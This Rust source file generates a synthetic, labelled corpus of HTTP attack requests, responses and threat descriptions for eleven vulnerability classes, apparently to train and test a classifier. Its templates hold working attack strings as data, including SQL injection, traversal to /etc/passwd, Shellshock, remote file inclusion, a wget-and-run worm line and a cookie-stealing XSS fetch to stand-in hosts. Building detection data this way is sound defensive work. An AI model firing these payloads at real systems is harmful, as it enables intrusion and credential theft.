//! Deterministic template generator. Every class carries distinctive
//! payload fragments and description phrases; everything else (hosts,
//! headers, parameters, filler sentences) is drawn from pools shared by all
//! classes, so the class signal is known and learnable while the bulk of
//! each sample is noise.

use chrono::{Duration, NaiveDate};
use rand::seq::SliceRandom;
use rand::Rng;
use rand_chacha::ChaCha8Rng;

use crate::corpus::{class_key, ClassId, Corpus, Provenance, Sample, SampleKind, VulnClass, DEFAULT_CLASSES};
use crate::featurize::RESPONSE_SEPARATOR;
use crate::{rng, Error, Result};

/// Per-class generation material.
#[derive(Debug, Clone, PartialEq)]
pub struct ClassTemplate {
    pub name: String,
    pub generic_label: String,
    /// Request-line targets; `{ioc}` is replaced by one of `iocs`.
    pub paths: Vec<String>,
    pub iocs: Vec<String>,
    /// Response bodies observed after a successful attack.
    pub responses: Vec<String>,
    /// Phrases used to write threat descriptions.
    pub phrases: Vec<String>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct GenSpec {
    pub classes: Vec<ClassTemplate>,
    /// Payload samples per class.
    pub samples_per_class: usize,
    /// Payload variants sharing one threat (and its description).
    pub payloads_per_threat: usize,
    pub seed: u64,
    /// `Name: {}` header templates; at least 8.
    pub headers: Vec<String>,
    pub first_date: NaiveDate,
    pub last_date: NaiveDate,
}

pub const MIN_HEADERS: usize = 8;

const HEADER_POOL: [&str; 12] = [
    "Host: {host}",
    "User-Agent: {agent}",
    "Accept: {accept}",
    "Accept-Language: {lang}",
    "Accept-Encoding: gzip, deflate",
    "Connection: {conn}",
    "Cache-Control: {cache}",
    "Referer: http://{host}/{word}",
    "Cookie: session={hex}; theme={word}",
    "X-Forwarded-For: {ip}",
    "Upgrade-Insecure-Requests: 1",
    "X-Request-ID: {hex}",
];

const AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/118.0",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) Safari/605.1.15",
    "Go-http-client/1.1",
];
const ACCEPTS: [&str; 4] = ["*/*", "text/html,application/xhtml+xml", "application/json", "text/plain"];
const LANGS: [&str; 4] = ["en-US,en;q=0.9", "de-DE,de;q=0.8", "fr-FR", "es-ES,es;q=0.7"];
const CONNS: [&str; 2] = ["keep-alive", "close"];
const CACHES: [&str; 3] = ["no-cache", "max-age=0", "no-store"];
const WORDS: [&str; 16] = [
    "index", "home", "portal", "shop", "admin", "account", "blog", "api", "news", "search", "profile", "assets",
    "dashboard", "login", "catalog", "help",
];
const PRODUCTS: [&str; 12] = [
    "Acme Portal", "NetDesk", "OpenShop", "CloudPanel", "WebGate", "DataHub", "MailCore", "SiteBuilder",
    "TaskFlow", "MediaBox", "ForumKit", "EdgeRouter",
];
const FILLER: [&str; 8] = [
    "Versions before the fixed release are affected.",
    "The vendor has published an update.",
    "A remote attacker can trigger the issue over the network.",
    "Administrators should upgrade as soon as possible.",
    "The issue was reported through a coordinated disclosure process.",
    "Public exploit code is available.",
    "The default configuration is vulnerable.",
    "No authentication is required in some deployments.",
];
const SERVERS: [&str; 4] = ["Apache/2.4.57 (Ubuntu)", "nginx/1.24.0", "Microsoft-IIS/10.0", "lighttpd/1.4.71"];

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| (*s).to_string()).collect()
}

fn label_of(name: &str) -> String {
    DEFAULT_CLASSES
        .iter()
        .find(|(n, _)| class_key(n) == class_key(name))
        .map(|(_, l)| (*l).to_string())
        .unwrap_or_default()
}

fn template(name: &str, paths: &[&str], iocs: &[&str], responses: &[&str], phrases: &[&str]) -> ClassTemplate {
    ClassTemplate {
        name: name.to_string(),
        generic_label: label_of(name),
        paths: strings(paths),
        iocs: strings(iocs),
        responses: strings(responses),
        phrases: strings(phrases),
    }
}

/// Templates for the eleven classes that have concrete HTTP exploit traces.
pub fn default_templates() -> Vec<ClassTemplate> {
    vec![
        template(
            "Backdoor",
            &["/{word}/.hidden/bd.php?key={ioc}", "/wp-content/{word}/x.php?pass={ioc}"],
            &["b4ckd00r_{n}", "hxr{n}&act=shell", "r00t_access{n}", "bd_token={hex}"],
            &["<pre>uid=0(root) gid=0(root)</pre>", "backdoor ready: hidden entry point open", "[bd] access granted"],
            &[
                "a hidden entry point allowing unauthorized system access",
                "hardcoded credentials open a hidden backdoor account",
                "can lead to data breaches and loss of control over the host",
                "an undocumented remote access channel is left in the firmware",
                "attackers keep persistent unauthorized system access through the backdoor",
            ],
        ),
        template(
            "CGI",
            &["/cgi-bin/{ioc}", "/cgi-bin/{word}.cgi?{ioc}"],
            &["test-cgi?*", "php-cgi?-d+allow_url_include=on", "bash.cgi?x=() { :; }; echo", "printenv.pl?{n}"],
            &["Content-type: text/plain\nCGI/1.1 test script report", "SERVER_SOFTWARE = CGI/1.1", "DOCUMENT_ROOT=/var/www/cgi-bin"],
            &[
                "a flaw in the cgi web application enabling unauthorized actions",
                "the cgi-bin script mishandles request parameters",
                "may cause data theft, code execution and service disruption",
                "shell metacharacters reach a cgi script without filtering",
                "the cgi handler exposes environment variables to web clients",
            ],
        ),
        template(
            "Dir-traversal",
            &["/{word}/download?file={ioc}", "/static/{ioc}", "/{word}.php?page={ioc}"],
            &["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//windows/win.ini", "..\\..\\..\\boot.ini"],
            &["root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1", "[fonts]\n[extensions]\n[mci extensions]", "[boot loader]\ntimeout=30"],
            &[
                "a security issue enabling attackers to retrieve sensitive files",
                "directory traversal through dot dot slash sequences",
                "unauthorized file access outside the web root",
                "path traversal in the file parameter allows arbitrary file read",
                "attackers retrieve sensitive files such as the password database",
            ],
        ),
        template(
            "DoS",
            &["/{word}?q={ioc}", "/{word}/upload?size={ioc}"],
            &["{pad}", "%00%00%00%00%00%00%00%00", "((((((((((((((((x))))))))))))))))", "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6"],
            &["503 Service Unavailable: worker pool exhausted", "upstream timed out while reading response", "resource limit reached, connection dropped"],
            &[
                "an attack aimed at rendering the system unusable",
                "a denial of service through resource exhaustion",
                "crafted requests cause network disruption",
                "repeated requests exhaust cpu and memory until the service crashes",
                "the server becomes unusable under a flood of malformed requests",
            ],
        ),
        template(
            "Info-Disclosure",
            &["/{ioc}", "/{word}/{ioc}"],
            &[".env", ".git/config", "phpinfo.php", "server-status", "backup.sql.bak", "config.php~"],
            &["DB_PASSWORD=secret{n}\nAPP_KEY=base64:{hex}", "[core]\n\trepositoryformatversion = 0", "<title>phpinfo()</title> PHP Version 7.4"],
            &[
                "a weakness that allows unauthorized access to internal data",
                "information disclosure of configuration details",
                "may lead to identity theft or system mapping",
                "debug output leaks internal data to remote users",
                "exposed backup files reveal internal data and credentials",
            ],
        ),
        template(
            "Injection",
            &["/{word}.php?id={ioc}", "/{word}/item?cat={ioc}"],
            &["1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1;DROP TABLE users", "' AND SLEEP(5)--"],
            &["You have an error in your SQL syntax near", "admin | 5f4dcc3b5aa765d61d8327deb882cf99", "mysql_fetch_array() expects parameter 1"],
            &[
                "a vulnerability that lets attackers inject malicious code",
                "sql injection in an unsanitized query parameter",
                "unauthorized database manipulation and system compromise",
                "attackers inject sql statements into the database query",
                "injected queries read and modify database records",
            ],
        ),
        template(
            "Overflow",
            &["/{word}?name={ioc}", "/{word}/login?user={ioc}"],
            &["A{rep}%90%90%90%90", "%x%x%x%x%n{rep}", "\\x41\\x41\\x41\\x41{rep}\\xeb\\x06"],
            &["*** stack smashing detected ***: terminated", "Segmentation fault (core dumped)", "worker process exited on signal 11"],
            &[
                "a memory-related flaw causing crashes or unauthorized access",
                "a stack based buffer overflow in the request parser",
                "unexpected execution paths and system instability",
                "an overlong value overflows a fixed size buffer",
                "memory corruption leads to crashes and possible code execution",
            ],
        ),
        template(
            "Remote-File-Inclusion",
            &["/{word}.php?page={ioc}", "/index.php?inc={ioc}"],
            &["http://evil{n}.example/shell.txt?", "https://{hex}.example/c99.php", "ftp://drop{n}.example/r57.txt"],
            &["<b>Warning</b>: include(http://evil.example/shell.txt) c99shell", "remote include loaded: r57shell", "allow_url_include enabled, file executed"],
            &[
                "a vulnerability permitting attackers to include external malicious files",
                "remote file inclusion through the include parameter",
                "unauthorized remote file execution and system compromise",
                "the include parameter accepts a remote url",
                "the application loads and runs attacker hosted php files",
            ],
        ),
        template(
            "Trojan",
            &["/{word}/update?bin={ioc}", "/gate.php?id={ioc}"],
            &["setup_{n}.exe", "bot_id={hex}&os=win10&av=none", "flashplayer_update_{n}.scr", "invoice_{n}.pdf.exe"],
            &["MZ\\x90\\x00\\x03 this program cannot be run in DOS mode", "cmd=download&url=http://cdn.example/p.bin", "beacon ok: next_check=300"],
            &[
                "malware disguised as legitimate software for system compromise",
                "a trojanized installer grants unauthorized access and data theft",
                "the implant beacons to a command and control server",
                "a fake update disguised as legitimate software",
                "the disguised malware steals data after installation",
            ],
        ),
        template(
            "Worm",
            &["/{word}/{ioc}", "/scripts/{ioc}"],
            &["default.ida?NNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801", "root.exe?/c+dir", "shell?cd+/tmp;wget+http://spread{n}.example/w.sh;sh+w.sh"],
            &["Directory of c:\\inetpub\\scripts", "w.sh saved, spreading to next subnet", "infected: scanning 10.0.0.0/8"],
            &[
                "a self-propagating malware spreading without human intervention",
                "the worm scans for vulnerable hosts and copies itself",
                "network-wide infection and resource depletion",
                "infected servers spread the payload to new targets automatically",
                "self-propagating code exhausts bandwidth across the network",
            ],
        ),
        template(
            "XSS",
            &["/{word}?q={ioc}", "/{word}/comment?text={ioc}"],
            &["<script>alert({n})</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=fetch('//x{n}.example?c='+document.cookie)>", "javascript:alert({n})"],
            &["<div class=\"result\">Results for <script>alert(1)</script></div>", "<p>Comment saved: <img src=x onerror=alert(document.cookie)></p>", "<a href=\"javascript:alert(1)\">profile</a>"],
            &[
                "a vulnerability allowing unauthorized script execution in web applications",
                "cross site scripting in the search parameter",
                "can result in data theft and session hijacking",
                "a stored script payload runs in the browser of every visitor",
                "unescaped input reflects attacker script into the page",
            ],
        ),
    ]
}

impl GenSpec {
    /// Default fixture: all eleven templates.
    pub fn new(samples_per_class: usize, seed: u64) -> Self {
        GenSpec {
            classes: default_templates(),
            samples_per_class,
            payloads_per_threat: 4,
            seed,
            headers: strings(&HEADER_POOL),
            first_date: NaiveDate::from_ymd_opt(2021, 1, 1).expect("valid date"),
            last_date: NaiveDate::from_ymd_opt(2024, 12, 31).expect("valid date"),
        }
    }

    /// Keeps only the named classes, in the given order.
    pub fn with_classes(mut self, names: &[&str]) -> Result<Self> {
        let mut picked = Vec::with_capacity(names.len());
        for name in names {
            let t = self
                .classes
                .iter()
                .find(|t| class_key(&t.name) == class_key(name))
                .ok_or_else(|| Error::Config(format!("no template for class {name}")))?;
            picked.push(t.clone());
        }
        self.classes = picked;
        Ok(self)
    }

    pub fn validate(&self) -> Result<()> {
        if self.classes.is_empty() {
            return Err(Error::Config("template set is empty".into()));
        }
        if self.samples_per_class == 0 || self.payloads_per_threat == 0 {
            return Err(Error::Config("samples_per_class and payloads_per_threat must be >= 1".into()));
        }
        if self.headers.len() < MIN_HEADERS {
            return Err(Error::Config(format!(
                "header pool has {} templates; at least {MIN_HEADERS} required",
                self.headers.len()
            )));
        }
        if self.last_date < self.first_date {
            return Err(Error::Config("date range is empty".into()));
        }
        for t in &self.classes {
            if t.paths.is_empty() || t.iocs.is_empty() || t.responses.is_empty() || t.phrases.is_empty() {
                return Err(Error::Config(format!("class {} has an empty template list", t.name)));
            }
            if t.generic_label.trim().is_empty() {
                return Err(Error::Config(format!("class {} has no label", t.name)));
            }
        }
        Ok(())
    }
}

fn pick<'a>(rng: &mut ChaCha8Rng, items: &'a [&str]) -> &'a str {
    items[rng.gen_range(0..items.len())]
}

fn hex(rng: &mut ChaCha8Rng, len: usize) -> String {
    (0..len).map(|_| char::from_digit(rng.gen_range(0..16), 16).expect("digit")).collect()
}

fn fill(template: &str, rng: &mut ChaCha8Rng, host: &str) -> String {
    let mut out = template.to_string();
    // Placeholders are expanded one occurrence at a time so repeats differ.
    loop {
        let Some(start) = out.find('{') else { break };
        let Some(len) = out[start..].find('}') else { break };
        let key = out[start + 1..start + len].to_string();
        let value = match key.as_str() {
            "host" => host.to_string(),
            "agent" => pick(rng, &AGENTS).to_string(),
            "accept" => pick(rng, &ACCEPTS).to_string(),
            "lang" => pick(rng, &LANGS).to_string(),
            "conn" => pick(rng, &CONNS).to_string(),
            "cache" => pick(rng, &CACHES).to_string(),
            "word" => pick(rng, &WORDS).to_string(),
            "hex" => hex(rng, 12),
            "n" => rng.gen_range(1..10_000).to_string(),
            "ip" => format!("{}.{}.{}.{}", rng.gen_range(1..224), rng.gen::<u8>(), rng.gen::<u8>(), rng.gen_range(1..255)),
            "rep" => "A".repeat(rng.gen_range(16..64)),
            "pad" => "%20".repeat(rng.gen_range(8..24)),
            // Not a placeholder (literal brace in a fragment): emit verbatim.
            _ => out[start..start + len + 1].replace('{', "\u{0}").replace('}', "\u{1}"),
        };
        out.replace_range(start..start + len + 1, &value);
    }
    out.replace('\u{0}', "{").replace('\u{1}', "}")
}

fn payload(t: &ClassTemplate, headers: &[String], host: &str, rng: &mut ChaCha8Rng) -> String {
    let ioc = fill(t.iocs.choose(rng).expect("non-empty"), rng, host);
    let path = fill(t.paths.choose(rng).expect("non-empty"), rng, host).replace("{ioc}", &ioc);
    let post = rng.gen_bool(0.3);
    let mut request = format!("{} {path} HTTP/1.1\r\n", if post { "POST" } else { "GET" });
    let mut chosen: Vec<&String> = headers.iter().collect();
    chosen.shuffle(rng);
    let count = rng.gen_range(MIN_HEADERS..=headers.len());
    // Host always leads, as real clients send it.
    chosen.sort_by_key(|h| !h.starts_with("Host:"));
    for h in chosen.into_iter().take(count) {
        request.push_str(&fill(h, rng, host));
        request.push_str("\r\n");
    }
    if post {
        let second = fill(t.iocs.choose(rng).expect("non-empty"), rng, host);
        let body = format!("data={second}&{}={}", pick(rng, &WORDS), rng.gen_range(1..1000));
        request.push_str("Content-Type: application/x-www-form-urlencoded\r\n");
        request.push_str(&format!("Content-Length: {}\r\n\r\n{body}", body.len()));
    }
    let body = (0..2)
        .map(|_| fill(t.responses.choose(rng).expect("non-empty"), rng, host))
        .collect::<Vec<_>>()
        .join("\n");
    let status = if rng.gen_bool(0.8) { "200 OK" } else { "500 Internal Server Error" };
    let response = format!(
        "HTTP/1.1 {status}\r\nServer: {}\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}",
        pick(rng, &SERVERS),
        body.len()
    );
    format!("{request}{RESPONSE_SEPARATOR}{response}")
}

fn description(t: &ClassTemplate, rng: &mut ChaCha8Rng) -> String {
    let product = pick(rng, &PRODUCTS);
    let version = format!("{}.{}.{}", rng.gen_range(1..10), rng.gen_range(0..20), rng.gen_range(0..10));
    let mut phrases: Vec<&String> = t.phrases.iter().collect();
    phrases.shuffle(rng);
    let take = rng.gen_range(2..=3).min(phrases.len());
    let mut text = format!("{product} {version} contains {}.", phrases[0]);
    for p in &phrases[1..take] {
        text.push_str(&format!(" It is {p}."));
    }
    for _ in 0..rng.gen_range(1..=2) {
        text.push(' ');
        text.push_str(pick(rng, &FILLER));
    }
    text
}

/// Class table of a spec: its classes in order with dense ids.
pub fn spec_classes(spec: &GenSpec) -> Vec<VulnClass> {
    spec.classes
        .iter()
        .enumerate()
        .map(|(i, t)| VulnClass {
            id: ClassId(i as u32 + 1),
            name: t.name.clone(),
            generic_label: t.generic_label.clone(),
        })
        .collect()
}

/// Generates `samples_per_class` payloads per class, grouped into threats of
/// `payloads_per_threat` variants; every threat also gets one description.
/// Threats are dated uniformly over the `GenSpec` date range.
pub fn generate_template_corpus(spec: &GenSpec) -> Result<Corpus> {
    spec.validate()?;
    let days = (spec.last_date - spec.first_date).num_days();
    let mut samples = Vec::new();
    for (ci, t) in spec.classes.iter().enumerate() {
        let class_id = ClassId(ci as u32 + 1);
        let mut rng = rng::derived(spec.seed, ci as u64);
        let key = class_key(&t.name);
        let threats = spec.samples_per_class.div_ceil(spec.payloads_per_threat);
        let mut emitted = 0;
        for k in 0..threats {
            let threat_id = format!("{key}-t{k:04}");
            let published = spec.first_date + Duration::days(rng.gen_range(0..=days));
            let host = format!("{}{}.example.com", pick(&mut rng, &WORDS), rng.gen_range(1..100));
            samples.push(Sample {
                id: format!("{threat_id}-d"),
                kind: SampleKind::Description,
                text: description(t, &mut rng).into_bytes(),
                class_id,
                published: Some(published),
                threat_id: threat_id.clone(),
                truncated: false,
            });
            let n = spec.payloads_per_threat.min(spec.samples_per_class - emitted);
            for v in 0..n {
                samples.push(Sample {
                    id: format!("{threat_id}-p{v}"),
                    kind: SampleKind::Payload,
                    text: payload(t, &spec.headers, &host, &mut rng).into_bytes(),
                    class_id,
                    published: Some(published),
                    threat_id: threat_id.clone(),
                    truncated: false,
                });
            }
            emitted += n;
        }
    }
    Corpus::new(spec_classes(spec), samples, Provenance::Template)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::featurize::{featurize_payload, parse_http_sample, PayloadFeaturizerConfig};
    use crate::synthgen::validate::{to_records, validate_sample};

    fn small(seed: u64) -> GenSpec {
        GenSpec {
            samples_per_class: 3,
            payloads_per_threat: 2,
            ..GenSpec::new(3, seed).with_classes(&["XSS", "Dir-traversal"]).unwrap()
        }
    }

    #[test]
    fn two_classes_three_samples_are_balanced() {
        let c = generate_template_corpus(&small(1)).unwrap();
        let hist = c.histogram(SampleKind::Payload);
        assert_eq!(hist, vec![(ClassId(1), 3), (ClassId(2), 3)]);
        assert_eq!(c.payloads().count(), 6);
        // Threats of two payloads: ceil(3 / 2) descriptions per class.
        assert_eq!(c.descriptions().count(), 4);
    }

    #[test]
    fn same_seed_same_corpus() {
        let a = generate_template_corpus(&small(9)).unwrap();
        let b = generate_template_corpus(&small(9)).unwrap();
        assert_eq!(a, b);
        let c = generate_template_corpus(&small(10)).unwrap();
        assert_ne!(a, c);
    }

    #[test]
    fn every_payload_validates() {
        let c = generate_template_corpus(&GenSpec::new(40, 3)).unwrap();
        for r in to_records(&c) {
            let v = validate_sample(&serde_json::to_value(&r).unwrap());
            assert!(v.is_empty(), "{v:?} in {}", r.http_payload);
        }
    }

    #[test]
    fn empty_template_set_is_an_error() {
        let mut spec = GenSpec::new(3, 0);
        spec.classes.clear();
        assert!(matches!(generate_template_corpus(&spec), Err(Error::Config(_))));
        let mut spec = GenSpec::new(3, 0);
        spec.classes[0].iocs.clear();
        assert!(generate_template_corpus(&spec).is_err());
    }

    #[test]
    fn class_fragments_reach_the_payload() {
        let c = generate_template_corpus(&GenSpec::new(8, 5).with_classes(&["Dir-traversal"]).unwrap()).unwrap();
        let t = &default_templates()[2];
        for p in c.payloads() {
            let text = p.text_lossy();
            let found = t.iocs.iter().any(|ioc| {
                let stem: String = ioc.chars().take_while(|&ch| ch != '{').take(6).collect();
                text.contains(&stem)
            });
            assert!(found, "{text}");
        }
    }

    /// Nearest-centroid on raw payload features classifies the fixture
    /// perfectly (leave-one-out over class centroids).
    #[test]
    fn raw_features_separate_the_fixture() {
        let c = generate_template_corpus(&GenSpec::new(30, 42)).unwrap();
        let cfg = PayloadFeaturizerConfig {
            dim: 1 << 16,
            ..Default::default()
        };
        let k = c.classes().len();
        let feats: Vec<(usize, Vec<f64>)> = c
            .payloads()
            .map(|p| {
                let v = featurize_payload(&parse_http_sample(&p.text).unwrap(), &cfg).unwrap();
                (p.class_id.0 as usize - 1, v.to_dense())
            })
            .collect();
        let mut sums = vec![vec![0.0; cfg.dim]; k];
        for (y, v) in &feats {
            for (s, x) in sums[*y].iter_mut().zip(v) {
                *s += x;
            }
        }
        let mut correct = 0;
        for (y, v) in &feats {
            // Cosine to the leave-one-out class mean.
            let best = (0..k)
                .map(|c| {
                    let m: Vec<f64> = sums[c]
                        .iter()
                        .zip(v)
                        .map(|(s, x)| s - if c == *y { *x } else { 0.0 })
                        .collect();
                    let dot: f64 = m.iter().zip(v).map(|(a, b)| a * b).sum();
                    let norm = m.iter().map(|a| a * a).sum::<f64>().sqrt();
                    (c, dot / norm)
                })
                .max_by(|a, b| a.1.total_cmp(&b.1))
                .unwrap()
                .0;
            correct += usize::from(best == *y);
        }
        assert_eq!(correct, feats.len());
    }
}
